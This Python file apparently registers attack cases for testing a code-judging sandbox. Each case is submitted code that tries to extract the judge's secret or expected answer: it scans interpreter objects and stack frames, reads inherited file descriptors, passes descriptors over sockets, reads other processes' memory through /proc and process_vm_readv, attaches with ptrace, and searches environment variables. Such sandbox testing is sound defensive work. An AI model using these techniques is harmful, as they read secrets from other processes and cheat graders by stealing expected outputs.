"""Expected values and secrets, wherever they may be lying about."""

from own_attacks.rows import FIND, LIBC, SECRET, attack

attack(
    "steal_frames_and_modules",
    SECRET,
    FIND
    + """
import sys, gc, inspect
def f(x):
    seen, todo = set(), [sys.modules, gc.get_objects(), sys._current_frames()]
    frame = sys._getframe()
    while frame:
        todo += [frame.f_globals, frame.f_locals, frame.f_code.co_consts]
        frame = frame.f_back
    while todo and len(seen) < 200000:
        o = todo.pop()
        if id(o) in seen: continue
        seen.add(id(o))
        if type(o) in (str, bytes):
            if 'SECRET_' in str(o) and pick(str(o)): return pick(str(o))
        else:
            todo += gc.get_referents(o)
""",
)
attack(
    "steal_descriptors",
    SECRET,
    FIND
    + """
import os, socket
def f(x):
    for fd in range(256):
        for read in (lambda: os.pread(fd, 1 << 16, 0), lambda: os.read(fd, 1 << 16),
                     lambda: socket.socket(fileno=os.dup(fd)).recv(1 << 16, socket.MSG_PEEK | socket.MSG_DONTWAIT)):
            try: os.set_blocking(fd, False); found = pick(read().decode('latin1'))
            except Exception: continue
            if found: return found
""",
)
attack(
    "steal_passed_descriptors",
    SECRET,
    FIND
    + """
import os, socket, array
def f(x):
    for fd in range(3, 64):
        try:
            s = socket.socket(fileno=os.dup(fd)); s.settimeout(0.05)
            s.sendmsg([b'R'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2]))])
            data, extra, *_ = s.recvmsg(4096, 4096)
        except OSError: continue
        for _, _, got in extra:
            for n in array.array('i', got[:len(got) // 4 * 4]):
                try: found = pick(os.pread(n, 1 << 16, 0).decode('latin1'))
                except OSError: continue
                if found: return found
        if pick(data.decode('latin1')): return pick(data.decode('latin1'))
""",
)
attack(
    "steal_other_memory",
    SECRET,
    LIBC
    + FIND
    + """
class V(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def f(x):
    box = ctypes.create_string_buffer(1 << 16)
    for pid in (@@JUDGE_PID@@, os.getppid(), 1):
        try:
            rows = [r.split() for r in open('/proc/%d/maps' % pid)]
            mem = open('/proc/%d/mem' % pid, 'rb', 0)
            for r in rows:
                if not r[1].startswith('rw'): continue
                low, high = (int(v, 16) for v in r[0].split('-'))
                for a in range(low, min(high, low + (1 << 24)), 1 << 16):
                    mem.seek(a); found = pick(mem.read(1 << 16).decode('latin1'))
                    if found: return found
        except (OSError, ValueError): pass
        for a in range(id(f) & ~0xffffff, (id(f) & ~0xffffff) + (1 << 24), 1 << 16):
            local, remote = V(ctypes.addressof(box), 1 << 16), V(a, 1 << 16)
            n = l.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if n > 0 and pick(box.raw[:n].decode('latin1')): return pick(box.raw[:n].decode('latin1'))
""",
)
attack(
    "steal_by_ptrace",
    SECRET,
    LIBC
    + """
def f(x):
    for pid in (@@JUDGE_PID@@, os.getppid(), 1):
        for request in (16, 0x4206):
            if l.ptrace(request, pid, 0, 0) == 0: return '@@SECRET@@'
""",
    "score 0; nobody is stopped by a tracer",
)
attack(
    "steal_tests_over_the_link",
    {"kind": "tests", "entry": "f", "setup": "WANT = '@@SECRET@@'", "tests": ["assert f(1) == WANT"]},
    FIND
    + """
import os, gc
def f(x):
    for fd in range(64):
        try: os.set_blocking(fd, False); found = pick(os.read(fd, 1 << 20).decode('latin1'))
        except OSError: continue
        if found: return found
    for o in gc.get_objects():
        if type(o) is dict and 'WANT' in o: return o['WANT']
    import sys
    for name in ('tests', 'setup', 'test', '__main__'):
        if hasattr(sys.modules.get(name), 'WANT'): return sys.modules[name].WANT
""",
    "score 0: the tests are in another process",
)
attack(
    "steal_wanted_output",
    {"kind": "stdin", "stdin": "3 4\n", "want": "@@SECRET@@\n"},
    FIND
    + """
import os, glob
for fd in range(64):
    for read in (lambda: os.pread(fd, 1 << 20, 0), lambda: os.read(fd, 1 << 20)):
        try: os.set_blocking(fd, False); found = pick(read().decode('latin1'))
        except OSError: continue
        if found: print(found); raise SystemExit
""",
)
attack(
    "steal_environment",
    SECRET,
    LIBC
    + FIND
    + """
def f(x):
    l.getenv.restype = ctypes.c_char_p
    l.secure_getenv.restype = ctypes.c_char_p
    found = l.getenv(b'JUDGE_SECRET') or l.secure_getenv(b'JUDGE_SECRET')
    if found: return found.decode()
    env = ctypes.POINTER(ctypes.c_char_p).in_dll(l, 'environ')
    n = 0
    while env and env[n]:
        if pick(env[n].decode('latin1')): return pick(env[n].decode('latin1'))
        n += 1
    stack = ctypes.addressof(env)
    return os.environ.get('JUDGE_SECRET')
""",
)
